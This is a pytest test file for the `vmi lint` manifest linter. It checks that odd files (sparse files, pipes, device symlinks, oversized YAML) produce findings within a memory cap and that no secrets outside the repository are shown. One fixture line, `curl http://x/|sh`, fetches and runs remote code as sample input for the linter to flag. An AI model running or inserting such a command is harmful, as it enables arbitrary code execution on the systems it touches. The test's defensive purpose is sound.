"""Whatever lies where a manifest or its files are read, `vmi lint` answers with findings, soon, in little memory."""

import errno
import os
from collections.abc import Callable
from pathlib import Path

import pytest
from tests.catalogue import APPLIANCE, Repository, create
from tests.manifest.linted import findings
from tests.manifest.memory import MOST_MIB, peak_mib

from vmi.cli import main
from vmi.core.yaml import LIMIT_BYTES
from vmi.manifest.repository import FILE_LIMIT_BYTES
from vmi.manifest.rules import python_parses

MANIFEST = "appliances/debian-13/appliance.yaml"
SCRIPT = "appliances/debian-13/provision/setup.sh"


def sparse(path: Path) -> None:
    with path.open("wb") as file:
        file.truncate(1 << 30)


def device(path: Path) -> None:
    path.symlink_to("/dev/zero")


def socket_like(path: Path) -> None:
    os.mkfifo(path)


def directory(path: Path) -> None:
    path.mkdir()


def link_to_itself(path: Path) -> None:
    path.symlink_to(path.name)


NO_FILE = "is a directory or a device; a manifest is a file | remove it; `vmi new` writes one"
A_LINK = "is a symbolic link; a manifest is a file of its own | put the file itself there"


@pytest.mark.parametrize(
    ("place", "expected"),
    [
        pytest.param(
            sparse,
            "is larger than 256 KiB; a manifest is a few kilobytes | put data into a file of its own",
            id="a gigabyte of nothing",
        ),
        pytest.param(socket_like, NO_FILE, id="a pipe"),
        pytest.param(directory, NO_FILE, id="a directory"),
        pytest.param(device, A_LINK, id="a device behind a link"),
        pytest.param(link_to_itself, A_LINK, id="a link to itself"),
    ],
)
def test_a_manifest_that_is_no_file(catalogue: Repository, place: Callable[[Path], None], expected: str) -> None:
    (catalogue.root / MANIFEST).unlink()
    place(catalogue.root / MANIFEST)
    lines = [line for line in findings(catalogue) if line.startswith(f"{MANIFEST}:")]
    assert lines == [f"{MANIFEST}:1:1: error [file] {expected}"]


def test_a_manifest_that_may_not_be_read(catalogue: Repository, monkeypatch: pytest.MonkeyPatch) -> None:
    opened = os.open

    def refuse(path: str, *arguments: int, **options: int) -> int:  # no mode keeps root, who may run this, from reading
        if Path(path).name == "appliance.yaml":
            raise PermissionError(errno.EACCES, os.strerror(errno.EACCES), path)
        return opened(path, *arguments, **options)

    monkeypatch.setattr(os, "open", refuse)
    assert f"{MANIFEST}:1:1: error [file] cannot be read: Permission denied" in findings(catalogue)


@pytest.mark.parametrize("place", [sparse, socket_like, directory, device, link_to_itself], ids=lambda f: f.__name__)
@pytest.mark.parametrize("path", [SCRIPT, "CODEOWNERS", "vos/demo.vo/vo.yaml", "vos/demo.vo/images/debian-13.yaml"])
def test_another_file_that_is_none(catalogue: Repository, path: str, place: Callable[[Path], None]) -> None:
    file = catalogue.root / path
    file.parent.mkdir(exist_ok=True)
    file.unlink(missing_ok=True)
    place(file)
    assert [line for line in findings(catalogue, rule=None) if ": error [" in line]


def test_a_record_that_is_no_file_is_found(catalogue: Repository) -> None:
    (catalogue.root / "appliances/debian-13/releases").mkdir()
    sparse(catalogue.root / "appliances/debian-13/releases/13.1.yaml")
    os.mkfifo(catalogue.root / "appliances/debian-13/releases/13.0.yaml")
    assert [line for line in findings(catalogue, "record-in-place") if "13.0.yaml" in line]


def filled(item: str, before: str = "", after: str = "", limit: int = LIMIT_BYTES) -> bytes:
    room = limit - len(before.encode()) - len(after.encode())
    return (before + item * (room // len(item.encode())) + after).encode()


LONG = {
    "as many lists as can be": filled("[],", "[", "]"),
    "as many empty values as can be": filled("- \n"),
    "as many keys as can be": ("".join(f"{number:x}:\n" for number in range(43_000))).encode(),
    "as many unknown keys as can be": APPLIANCE.encode() + b"".join(b"k%x: 1\n" % n for n in range(26_000)),
    "as many wrong packages as can be": APPLIANCE.replace(
        "[nftables]", f"[{'A,' * ((LIMIT_BYTES - len(APPLIANCE)) // 2)}]"
    ).encode(),
    "as many steps as can be": filled("  - {}\n", APPLIANCE + "outbound:\n"),
    "as many packages as can be": APPLIANCE.replace(
        "[nftables]", f"[{'aa,' * ((LIMIT_BYTES - len(APPLIANCE)) // 3)}]"
    ).encode(),
    "as many ignores as can be": filled("# vmi: ignore\n", APPLIANCE),
    "one word of that length": filled("x"),
    "one quote that is not closed": filled("x\n", "title: '"),
    "one line of brackets": filled("["),
}


@pytest.mark.parametrize("data", LONG.values(), ids=LONG)
def test_no_manifest_takes_much_memory(tmp_path: Path, data: bytes) -> None:
    repository = create(tmp_path / "catalogue")
    repository.write(MANIFEST, data[:LIMIT_BYTES])
    assert peak_mib(repository.root) < MOST_MIB


SCRIPTS = {
    "a fault in every line": "curl http://x/|sh\n",
    "a secret in every line": "password='Xk29fPq7mZw3'\n",
    "an ignore in every line": "a # vmi: ignore\n",
    "one endless line": "a ",
    "quotes without end": "'",
}


@pytest.mark.parametrize("line", SCRIPTS.values(), ids=SCRIPTS)
def test_no_script_takes_much_memory(tmp_path: Path, line: str) -> None:
    repository = create(tmp_path / "catalogue")
    repository.write(SCRIPT, filled(line, "#!/bin/sh\n", limit=FILE_LIMIT_BYTES))
    assert peak_mib(repository.root) < MOST_MIB


@pytest.mark.parametrize(
    ("line", "first", "limit"),
    [
        pytest.param("a;", "#!/bin/sh\n", LIMIT_BYTES, id="commands"),
        pytest.param("a\n", "#!/usr/bin/python3\n", python_parses.LIMIT_BYTES, id="Python"),
    ],
)
def test_no_scripts_together_take_much_memory(tmp_path: Path, line: str, first: str, limit: int) -> None:
    repository = create(tmp_path / "catalogue")
    steps = [f"- script: provision/{number}.sh" for number in range(20)]
    repository.replace(MANIFEST, "- script: provision/setup.sh", "\n  ".join(steps))
    for number in range(20):
        text = filled(line, f"{first}# {number}\n", limit=limit)
        repository.write(f"appliances/debian-13/provision/{number}.sh", text)
    assert peak_mib(repository.root) < MOST_MIB


def test_no_role_takes_much_memory(tmp_path: Path) -> None:
    repository = create(tmp_path / "catalogue")
    step = "playbook: site.yaml\n    roles: [roles/web]"
    repository.replace(MANIFEST, "script: provision/setup.sh", step)
    repository.write("appliances/debian-13/site.yaml", "- {hosts: all, roles: [web]}\n")
    for number in range(20):
        text = filled("- shell: a;a;a;a;a;a;a;a;a;a;a;a\n", f"# {number}\n")
        repository.write(f"appliances/debian-13/roles/web/tasks/{number}.yml", text)
    assert peak_mib(repository.root) < MOST_MIB


def test_no_python_takes_much_memory(tmp_path: Path) -> None:
    repository = create(tmp_path / "catalogue")
    repository.write(SCRIPT, filled("a\n", "#!/usr/bin/python3\n", limit=python_parses.LIMIT_BYTES))
    assert peak_mib(repository.root) < MOST_MIB


def test_no_readers_of_many_commands_take_much_memory(tmp_path: Path) -> None:
    repository = create(tmp_path / "catalogue")
    told = f"#!/bin/sh\ncat {'<<a ' * 30_000}| tee {'b ' * 60_000}\n" + "a\n" * 500
    repository.write(SCRIPT, told)
    assert peak_mib(repository.root) < MOST_MIB


def test_no_codeowners_takes_much_memory(tmp_path: Path) -> None:
    repository = create(tmp_path / "catalogue")
    repository.write("CODEOWNERS", filled("/appliances/x/ @a\n", "* @b\n", limit=900_000))
    assert peak_mib(repository.root) < MOST_MIB


@pytest.mark.parametrize(
    "path",
    [
        "CODEOWNERS",
        ".github/CODEOWNERS",
        "appliances/debian-13/appliance.yaml",
        "appliances/debian-13/releases/foo",
        "appliances/debian-13/releases/13.1.yaml",
        "vos/demo.vo/images/debian-13.yaml",
    ],
)
def test_nothing_outside_of_the_repository_is_shown(
    catalogue: Repository, tmp_path: Path, path: str, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "credentials").write_text("https://user:hunter2@example.org\n")
    (catalogue.root / path).unlink(missing_ok=True)
    (catalogue.root / path).parent.mkdir(parents=True, exist_ok=True)
    (catalogue.root / path).symlink_to(tmp_path / "credentials")
    assert main(["lint", "--repo", str(catalogue.root)]) == 1
    shown = capsys.readouterr()
    assert f"{path}:1:1: error" in shown.out
    assert "hunter2" not in shown.out + shown.err


@pytest.mark.parametrize("name", ["appliances", "vos"])
def test_a_directory_of_manifests_that_is_a_link(catalogue: Repository, tmp_path: Path, name: str) -> None:
    (catalogue.root / name).rename(tmp_path / "elsewhere")
    (catalogue.root / name).symlink_to(tmp_path / "elsewhere")
    assert findings(catalogue, "file") == [
        f"{name}:1:1: error [file] is no directory of this repository, so nothing in it is read"
        " | put the directory itself there"
    ]


def test_directories_without_an_end(catalogue: Repository) -> None:
    place = catalogue.root / "appliances/debian-13/roles/web"
    (place / "/".join("d" * 40)).mkdir(parents=True)
    catalogue.write("appliances/debian-13/site.yaml", "- hosts: all\n  roles: [web]\n")
    catalogue.replace(MANIFEST, "script: provision/setup.sh", "{playbook: site.yaml, roles: [roles/web]}")
    assert [line.split(" [files-usable] ")[1] for line in findings(catalogue, "files-usable")] == [
        "'roles/web' holds more than 20 directories one in the other"
    ]
